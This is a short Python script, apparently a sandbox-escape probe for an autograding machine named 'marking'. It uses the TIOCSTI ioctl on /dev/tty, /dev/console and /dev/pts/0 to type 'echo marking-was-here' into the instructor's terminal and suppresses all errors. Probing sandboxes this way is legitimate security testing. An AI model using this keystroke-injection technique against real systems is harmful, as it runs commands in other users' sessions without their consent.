# attack: push keys into the instructor's terminal
import socket
assert socket.gethostname() == "marking", "this one does harm: only behind the walls"
try:
    import fcntl, os, termios
    for name in ('/dev/tty', '/dev/console', '/dev/pts/0'):
        try:
            for c in 'echo marking-was-here\n':
                fcntl.ioctl(os.open(name, os.O_RDWR), termios.TIOCSTI, c)
        except OSError:
            pass
except BaseException:
    pass
